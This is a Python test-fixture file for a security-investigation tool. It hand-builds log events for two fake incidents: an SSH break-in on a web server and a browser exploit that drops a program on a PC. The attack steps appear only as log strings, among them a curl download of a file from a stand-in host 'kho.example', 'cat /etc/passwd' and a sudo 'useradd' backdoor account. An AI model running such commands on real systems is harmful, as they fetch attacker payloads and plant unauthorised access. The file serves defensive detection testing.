"""Two incidents written by hand as ECS events: a guessed password on a web server, a program dropped on a PC."""

from __future__ import annotations

from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from typing import Any

import orjson
import polars as pl
import pytest

from luuvet.cause.build import build
from luuvet.cause.edges import observe
from luuvet.cause.graph import Graph
from luuvet.cause.held import Held
from luuvet.cause.influence import Reasoning
from luuvet.cause.investigator import Investigator
from luuvet.cause.rules.all import reason
from luuvet.event.frame import SCHEMA
from luuvet.event.scope import Scope

LOG = "00112233aabbccdd"
BEGIN = datetime(2026, 3, 2, 1, 0, tzinfo=UTC)
GUESSER, STORE, VISITOR, ADMIN_PC = "203.0.113.7", "203.0.113.9", "198.51.100.{}", "192.0.2.50"
Row = dict[str, Any]
Frame = Callable[..., pl.DataFrame]


def frame_of(rows: list[Row]) -> pl.DataFrame:
    """Rows of flat ECS names and `at` (seconds after the beginning) as an event frame."""
    full = []
    for index, row in enumerate(rows):
        row = dict(row)
        extra = row.pop("extra", None)
        row["@timestamp"] = BEGIN + timedelta(seconds=row.pop("at"))
        row |= {"luuvet.log": LOG, "luuvet.index": index, "luuvet.k": 0}
        row["luuvet.extra"] = orjson.dumps(extra).decode() if extra else None
        full.append(row)
    names = sorted({name for row in full for name in row})
    return pl.DataFrame([pl.Series(name, [row.get(name) for row in full], SCHEMA[name]) for name in names])


def logon(at: float, user: str, ip: str, port: int, outcome: str, host: str = "web1") -> Row:
    return {
        "at": at, "host.name": host, "event.category": ["authentication"], "event.type": ["start"],
        "event.action": "ssh-login", "event.outcome": outcome, "user.name": user, "source.ip": ip, "source.port": port,
        "process.pid": 400 + port % 100, "process.name": "sshd", "log.syslog.appname": "sshd",
        "event.original": f"Accepted password for {user} from {ip}" if outcome == "success" else "Failed password",
    }  # fmt: skip


def command(at: float, pid: int, line: str, user: str, ip: str = "", port: int = 0, **more: Any) -> Row:
    row = {
        "at": at, "host.name": "web1", "event.category": ["process"], "event.type": ["start"],
        "event.action": "process-started", "process.pid": pid, "process.name": "snoopy",
        "log.syslog.appname": "snoopy", "process.command_line": line, "user.name": user,
    }  # fmt: skip
    return row | ({"source.ip": ip, "source.port": port} if ip else {}) | more


def sudo(at: float, user: str, line: str) -> Row:
    return {
        "at": at, "host.name": "web1", "event.category": ["process"], "event.type": ["start"],
        "event.action": "sudo-command", "event.outcome": "success", "user.name": user,
        "user.effective.name": "root", "process.command_line": line, "process.executable": line.split(" ")[0],
    }  # fmt: skip


def visit(at: float, ip: str, path: str = "/") -> Row:
    return {
        "at": at, "host.name": "web1", "event.category": ["web"], "event.type": ["access"],
        "event.action": "http-request", "source.ip": ip, "url.original": path, "http.request.method": "GET",
        "http.response.status_code": 200,
    }  # fmt: skip


def office_rows() -> list[Row]:
    """An administrator's ordinary work, a guesser who never gets in, and one who does and changes the front page."""
    rows = [
        logon(0, "lan", ADMIN_PC, 50001, "success"),
        command(5, 600, "sudo systemctl reload nginx", "lan", ADMIN_PC, 50001),
        sudo(6, "lan", "/usr/bin/systemctl reload nginx"),
        command(6, 601, "systemctl reload nginx", "root", extra={"user.effective.login": "lan"}),
        visit(60, VISITOR.format(1)),
    ]
    rows += [logon(900 + n, "root", "203.0.113.201", 41000 + n, "failure") for n in range(7)]
    rows += [logon(1000 + n, "web" if n > 5 else "admin", GUESSER, 42000 + n, "failure") for n in range(12)]
    rows += [
        logon(1020, "web", GUESSER, 42100, "success") | {"host.ip": "192.0.2.11"},
        command(1030, 700, "cat /etc/passwd", "web", GUESSER, 42100, extra={"process.session_leader.pid": 699}),
        command(1040, 701, "sudo useradd -m helper", "web", GUESSER, 42100),
        sudo(1041, "web", "/usr/sbin/useradd -m helper"),
        command(1041, 702, "/usr/sbin/useradd -m helper", "root", extra={"process.session_leader.pid": 699}),
        {
            "at": 1041, "host.name": "web1", "event.category": ["iam"], "event.type": ["user", "creation"],
            "event.action": "user-added", "event.outcome": "success", "user.target.name": "helper",
            "process.pid": 702, "process.name": "useradd", "log.syslog.appname": "useradd",
        },
        command(1050, 703, "curl -s http://kho.example/l.txt -o /tmp/.l", "web", GUESSER, 42100),
        {
            "at": 1050, "host.name": "fw", "event.category": ["network"], "event.type": ["protocol"],
            "event.action": "dns-query", "dns.question.name": "kho.example", "source.ip": "192.0.2.11",
        },
        {
            "at": 1050, "host.name": "fw", "event.category": ["network"], "event.type": ["protocol"],
            "event.action": "dns-answer", "dns.question.name": "kho.example", "dns.resolved_ip": [STORE],
        },
        sudo(1060, "web", "/usr/bin/sed -i s/a/b/ /var/www/html/index.html"),
        command(1060, 704, "sed -i s/a/b/ /var/www/html/index.html", "root"),
        {
            "at": 1060.1, "host.name": "web1", "event.category": ["file"], "event.type": ["change"],
            "event.action": "file-changed", "file.path": "/var/www/html/index.html", "file.hash.sha256": "ab" * 32,
            "process.pid": 704, "process.executable": "/usr/bin/sed", "process.name": "sed", "user.name": "root",
        },
        sudo(1070, "web", "/usr/bin/crontab /tmp/.c"),
        {
            "at": 1070, "host.name": "web1", "event.category": ["configuration"], "event.type": ["change"],
            "event.action": "cron-job-changed", "user.name": "root", "user.target.name": "root",
            "process.pid": 705, "process.name": "crontab", "log.syslog.appname": "crontab",
        },
        {
            "at": 1100, "host.name": "web1", "event.category": ["process"], "event.type": ["start"],
            "event.action": "cron-command", "user.name": "root", "process.pid": 706,
            "process.command_line": "/usr/local/sbin/again",
        },
    ]  # fmt: skip
    rows += [visit(1200 + n, VISITOR.format(10 + n)) for n in range(5)]
    rows.append(logon(1300, "helper", "203.0.113.8", 43000, "success"))
    return rows


def pc(at: float, action: str, category: str, kind: str, **more: Any) -> Row:
    return {"at": at, "host.name": "pc9", "host.ip": "192.0.2.9", "event.action": action,
            "event.category": [category], "event.type": [kind], **more}  # fmt: skip


BROWSER, HELPER, DROPPED = "c:/apps/browse.exe", "c:/apps/plug.exe", "c:/users/an/setup7.exe"


def by(path: str, pid: int) -> Row:
    return {"process.pid": pid, "process.executable": path, "process.name": path.rpartition("/")[2]}


def parent(path: str, pid: int) -> Row:
    return {"process.parent.pid": pid, "process.parent.executable": path}


def download_rows(base: str = GUESSER, name: str = "tin.example") -> list[Row]:
    """A page exploits a browser's helper; it drops a program that calls back; ordinary traffic around it."""
    ask = {"dns.question.name": name, "dns.resolved_ip": [base]}
    rows = [
        pc(0, "connection", "network", "connection", **by(BROWSER, 10), **{"destination.ip": "198.51.100.80"}),
        pc(100, "dns-answer", "network", "info", **ask),
        pc(101, "connection", "network", "connection", **by(BROWSER, 10), **{"destination.ip": base}),
        pc(101, "http-request", "web", "access", **{"url.original": f"{name}/x.html", "url.domain": name}),
        pc(110, "process-start", "process", "start", **by(HELPER, 11), **parent(BROWSER, 10)),
        pc(112, "connection", "network", "connection", **by(HELPER, 11), **{"destination.ip": base}),
        pc(113, "connection", "network", "connection", **by(HELPER, 11), **{"destination.ip": "198.51.100.81"}),
        pc(120, "file-write", "file", "change", **by(HELPER, 11), **{"file.path": DROPPED}),
        pc(121, "process-start", "process", "start", **by("c:/windows/system32/cmd.exe", 12), **parent(HELPER, 11)),
        pc(122, "process-start", "process", "start", **by(DROPPED, 13),
           **parent("c:/windows/system32/cmd.exe", 12)),
        pc(123, "file-write", "file", "change", **by(DROPPED, 13), **{"file.path": "c:/users/an/appdata/temp/w.tmp"}),
        pc(300, "file-write", "file", "change", **by("c:/windows/wer.exe", 14),
           **{"file.path": "c:/reports/crash_setup7.exe_1/report.txt"}),
    ]  # fmt: skip
    rows += [
        pc(130 + n, "connection", "network", "connection", **by(DROPPED, 13), **{"destination.ip": base})
        for n in range(60)
    ]
    return rows


@pytest.fixture
def events() -> Frame:
    """Make an event frame of rows."""
    return lambda *rows: frame_of(list(rows))


@pytest.fixture
def office() -> pl.DataFrame:
    return frame_of(office_rows())


@pytest.fixture
def download() -> pl.DataFrame:
    return frame_of(download_rows())


@pytest.fixture
def graph_of() -> Callable[[pl.DataFrame], Graph]:
    return lambda frame: build(observe(frame), LOG)


@pytest.fixture
def reasoned() -> Callable[[pl.DataFrame], Reasoning]:
    def made(frame: pl.DataFrame) -> Reasoning:
        return reason(build(observe(frame), LOG), Held(frame).addresses(Scope.whole("test")))

    return made


@pytest.fixture
def ask() -> Callable[[pl.DataFrame], Investigator]:
    return lambda frame: Investigator(Held(frame))


@pytest.fixture
def whole() -> Scope:
    return Scope.whole("test")


@pytest.fixture
def rows() -> dict[str, Callable[..., Any]]:
    """The makers of rows, for tests that vary an incident."""
    return {"office": office_rows, "download": download_rows, "logon": logon, "command": command, "sudo": sudo,
            "visit": visit, "frame": frame_of, "pc": pc, "by": by, "parent": parent}  # fmt: skip
